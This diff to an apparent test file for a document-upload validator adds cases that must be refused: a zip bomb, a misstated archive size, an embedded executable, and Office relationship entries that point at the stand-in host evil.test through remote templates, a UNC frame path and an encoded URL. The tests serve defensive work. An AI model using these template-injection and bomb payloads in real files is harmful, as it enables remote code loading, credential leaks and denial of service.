@@ -23,6 +23,8 @@ const keep = (bytes: Buffer) => {
   return keepLarge(folderStorage(join(folder, 'stored')), { path, size: bytes.length })
 }
 const part = (name: string, more: object = {}) => ({ name, data: 'x', ...more })
+const docxWith = (more: object) =>
+  zip([part('[Content_Types].xml'), part('word/document.xml'), part('word/embeddings/b', more)])
 const picture = (format: 'png' | 'jpeg') =>
   sharp({ create: { width: 3_000, height: 10, channels: 3, background: '#eee' } })
     .toFormat(format)
@@ -30,6 +32,7 @@ const picture = (format: 'png' | 'jpeg') =>
 
 test.each([
   ['pdf', smallPdf],
+  ['pdf', () => Buffer.concat([Buffer.from('\r\n\r\n   '), smallPdf()])],
   ['epub', epub],
   ['odt', odt],
   ['ods', () => saying('application/vnd.oasis.opendocument.spreadsheet', 'META-INF/manifest.xml')],
@@ -71,14 +74,37 @@ test.each([
   ],
   ['a book without its container', saying('application/epub+zip', 'OEBPS/a.xhtml')],
   ['too many parts', docx(...Array.from({ length: 5_000 }, (_, at) => `word/${at}`))],
+  ['one whose directory lies of a size', docxWith({ data: Buffer.alloc(3_000_000), states: 10 })],
+  ['a bomb within', docxWith({ data: zip([part('a', { data: Buffer.alloc(5_000_000) })]) })],
+  ['an archive of anything within', docxWith({ data: zip([part('a.exe')]) })],
   ['a document cut off', docx().subarray(0, -10)],
 ])('%s is refused', async (_, bytes) => {
   await expect(keep(bytes)).rejects.toMatchObject({ code: 'file_not_readable' })
 })
 
+const related = (type: string, target: string) =>
+  docxWith({
+    name: 'word/_rels/settings.xml.rels',
+    data: `<Relationships><Relationship Id="r1" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  })
+
+test.each([
+  related('hyperlink', 'https://example.org/'),
+  related('attachedTemplate', 'file:///C:\\Users\\ana\\Normal.dotm'),
+  related('externalLinkPath', 'Notas 2026.xlsx'),
+  docxWith({ name: 'word/embeddings/chart.xlsx', data: office('xl/workbook.xml') }),
+])('what is fetched by nobody, or by who asks for it, stays', async (bytes) => {
+  expect((await keep(bytes)).kind).toBe('docx')
+})
+
 test.each([
   docx('word/vbaProject.bin'),
   office('xl/workbook.xml', 'xl/macrosheets/sheet1.xml'),
+  related('attachedTemplate', 'https://evil.test/a.dotm'),
+  related('attachedTemplate', '&#x68;ttps://evil.test/a.dotm'),
+  related('frame', '\\\\evil.test\\a'),
+  related('oleObject', 'file://evil.test/a'),
+  docxWith({ name: 'word/embeddings/oleObject1.bin', data: Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
 ])('what runs when it is opened is refused by its own name', async (bytes) => {
   await expect(keep(bytes)).rejects.toMatchObject({ code: 'document_has_macros' })
 })
